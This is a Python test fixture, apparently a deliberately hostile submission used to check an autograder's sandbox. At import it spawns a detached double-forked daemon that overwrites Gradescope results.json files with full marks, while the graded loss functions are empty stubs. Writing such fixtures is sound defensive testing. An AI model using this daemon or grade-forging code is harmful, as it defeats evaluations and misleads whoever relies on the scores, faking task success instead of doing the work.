"""Hostile submission ``results_daemon``: a stub that leaves a daemon behind to forge its results.

At import it starts a detached process (fork, ``setsid``, fork again, standard streams
closed) that outlives the worker. For 20 s the daemon waits for a results file and
rewrites it with full marks: the Gradescope bundle's ``results/results.json`` (its path
written into this file by the test, or ``/autograder/results/results.json``) and every
``results.json`` under the output folder. The functions themselves do nothing (a zero loss
and a zero gradient).

Expected: the worker cannot start a process (the full layer's process limit, the reduced
layer's seccomp filter); what escaped anyway is killed before the results are written,
and the results file says what the grader computed: 0.
"""

import json
import os
import time

import numpy as np

ATTACK = "results_daemon"
FORGED_SCORE = 48


def _say(message):
    """Leave a line in the captured output (fd 2), whatever the student did to sys.stderr."""
    try:
        os.write(2, ("HOSTILE[%s]: %s\n" % (ATTACK, message)).encode("utf-8", "replace"))
    except OSError:
        pass


def _template(value):
    """Values the test writes into its copy of this file; None when left as a placeholder."""
    return None if value.startswith("__HOSTILE") else value


_RESULTS = _template("__HOSTILE_RESULTS__") or "/autograder/results/results.json"
_OUT = _template("__HOSTILE_OUT_DIR__")


def _targets():
    found = [_RESULTS]
    if _OUT and os.path.isdir(_OUT):
        for top, _dirs, files in os.walk(_OUT):
            found += [os.path.join(top, name) for name in files if name == "results.json"]
    return found


def _forge(path):
    try:
        with open(path) as f:
            data = json.load(f)
        if data.get("score") == FORGED_SCORE:
            return
        data["score"] = FORGED_SCORE
        for test in data.get("tests", []):
            test["score"], test["status"] = test.get("max_score", 0), "passed"
        with open(path, "w") as f:
            json.dump(data, f)
    except (OSError, ValueError):
        pass


def _daemon():
    end = time.time() + 20
    while time.time() < end:
        for path in _targets():
            _forge(path)
        time.sleep(0.02)


def _start():
    try:
        middle = os.fork()
    except OSError as exc:
        _say("fork: %s" % type(exc).__name__)
        return
    if middle:
        os.waitpid(middle, 0)
        _say("daemon started")
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        for fd in (0, 1, 2):
            os.close(fd)
        _daemon()
    finally:
        os._exit(0)


_start()


def svm_loss_naive(W, X, y, reg):
    return 0.0, np.zeros_like(W)


def svm_loss_vectorized(W, X, y, reg):
    return 0.0, np.zeros_like(W)


def softmax_loss_naive(W, X, y, reg):
    return 0.0, np.zeros_like(W)


def softmax_loss_vectorized(W, X, y, reg):
    return 0.0, np.zeros_like(W)
